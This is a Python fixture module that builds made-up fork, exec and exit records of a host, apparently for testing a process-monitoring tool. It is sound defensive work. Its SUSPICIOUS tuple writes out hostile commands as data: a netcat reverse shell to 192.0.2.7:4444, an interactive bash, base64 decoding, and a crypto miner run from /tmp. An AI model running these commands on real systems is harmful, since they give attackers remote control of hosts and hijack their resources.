"""Made-up records of a busy host, the same in every run.

A shell creates every process. Times, pids and pipes go up as they do in a kernel; paths and arguments are those of
ordinary commands, and of some that are not.
"""

import zlib
from collections.abc import Iterable
from typing import NamedTuple

from pyloader.records import AnyRecord, ExecFlag, ProcessExec, ProcessExit, ProcessFork, ProcessSeen, Stdio

SHELL_PID, SHELL_START = 1_000, 5_000_000_000
FIRST_TIMESTAMP, INTERVAL = 100_000_000_000, 100_000

CHARACTERS = Stdio.CHARACTER | Stdio.CHARACTER << 4 | Stdio.CHARACTER << 8
READS_PIPE = Stdio.PIPE | Stdio.CHARACTER << 4 | Stdio.CHARACTER << 8


class Command(NamedTuple):
    """What a process executes; without a line it is a subshell, which executes nothing."""

    line: str = ""
    stdio: int = CHARACTERS
    flags: int = 0


RECURRING = (
    Command("/usr/bin/ls -la /srv/data"),
    Command("/usr/bin/grep -rn TODO /srv/app/source"),
    Command("/usr/bin/sed -n 1,20p /etc/hosts"),
    Command("/usr/bin/git status --short"),
    Command("/usr/bin/git -C /srv/app log --oneline -20"),
    Command("/usr/bin/python3 /srv/app/manage.py check"),
    Command("/usr/bin/gcc -O2 -c -o main.o main.c"),
    Command("/usr/bin/make -j4 all"),
    Command("/usr/sbin/logrotate /etc/logrotate.conf"),
    Command("/usr/bin/find /var/log -name *.gz -mtime +30"),
    Command("/usr/bin/date +%s"),
    Command("/usr/bin/sort -u", READS_PIPE),
    Command("/usr/bin/tar -czf /srv/backup/app.tar.gz /srv/app"),
    Command("/usr/bin/dpkg-query -W -f ${Version} bash"),
    Command("/usr/bin/systemctl is-active nginx.service"),
    Command("/usr/bin/head -1", READS_PIPE),
)
SUSPICIOUS = (
    Command("/usr/bin/nc -e /bin/sh 192.0.2.7 4444"),
    Command("/usr/bin/bash -i"),
    Command("/usr/bin/base64 -d", READS_PIPE),
    Command("/tmp/.cache/miner --threads 8", flags=ExecFlag.WORLD_WRITABLE),  # noqa: S108 -- that is what is bad about it.
)


def exec_heavy(processes: int) -> list[AnyRecord]:
    """Return fork, exec and exit of processes whose arguments all differ."""
    return _records(
        Command(f"/usr/bin/tool --input /srv/data/{number}.csv --seed {number * 7919}") for number in range(processes)
    )


def mixed(processes: int) -> list[AnyRecord]:
    """Return records of recurring commands, of a subshell as every fourth process, of something bad in every 200th."""
    return _records(_mixed(number) for number in range(processes))


def _mixed(number: int) -> Command:
    if number % 200 == 199:
        return SUSPICIOUS[number // 200 % len(SUSPICIOUS)]
    return Command() if number % 4 == 3 else RECURRING[number % 31 % len(RECURRING)]


def _records(commands: Iterable[Command]) -> list[AnyRecord]:
    records: list[AnyRecord] = [_shell()]
    for number, command in enumerate(commands):
        now = FIRST_TIMESTAMP + 3 * number * INTERVAL
        fork = _fork(SHELL_PID + 1 + number, now)
        records.append(fork)
        if command.line:
            records.append(_exec(fork, command, now + INTERVAL))
        records.append(_exit(fork, _name(command), now + 2 * INTERVAL))
    return records


def _name(command: Command) -> bytes:
    path = command.line.partition(" ")[0] or "bash"
    return path.rpartition("/")[2].encode()[:15].ljust(16, b"\0")


def _shell() -> ProcessSeen:
    return ProcessSeen(
        timestamp=FIRST_TIMESTAMP - INTERVAL,
        pid=SHELL_PID,
        ppid=1,
        start=SHELL_START,
        session=SHELL_PID,
        uid=1_000,
        cgroup=77,
        comm=b"bash",
        exe=b"/usr/bin/bash",
        args=b"-bash\0",
    )


def _fork(pid: int, now: int) -> ProcessFork:
    return ProcessFork(
        timestamp=now,
        pid=pid,
        ppid=SHELL_PID,
        start=now,
        parent_start=SHELL_START,
        session=SHELL_PID,
        uid=1_000,
        cgroup=77,
        comm=b"bash".ljust(16, b"\0"),
    )


def _exec(fork: ProcessFork, command: Command, now: int) -> ProcessExec:
    path = command.line.partition(" ")[0].encode()
    args = command.line.encode().replace(b" ", b"\0") + b"\0"
    return ProcessExec(
        timestamp=now,
        pid=fork.pid,
        ppid=fork.ppid,
        start=fork.start,
        parent_start=fork.parent_start,
        session=fork.session,
        uid=fork.uid,
        euid=fork.uid,
        gid=fork.uid,
        capabilities=0,
        cgroup=fork.cgroup,
        pid_namespace=4_026_531_836,
        mount_namespace=4_026_531_841,
        inode=zlib.crc32(path),
        device=2_049,
        flags=command.flags,
        stdio=command.stdio,
        stdin_inode=fork.pid if command.stdio == READS_PIPE else 0,
        stdout_inode=0,
        args_size=len(args),
        comm=_name(command),
        parent_comm=b"bash".ljust(16, b"\0"),
        filename=path,
        exe=path,
        args=args,
    )


def _exit(fork: ProcessFork, comm: bytes, now: int) -> ProcessExit:
    return ProcessExit(
        timestamp=now,
        pid=fork.pid,
        ppid=fork.ppid,
        start=fork.start,
        uid=fork.uid,
        code=0,
        signal=0,
        core_dumped=0,
        lifetime=now - fork.start,
        comm=comm,
    )
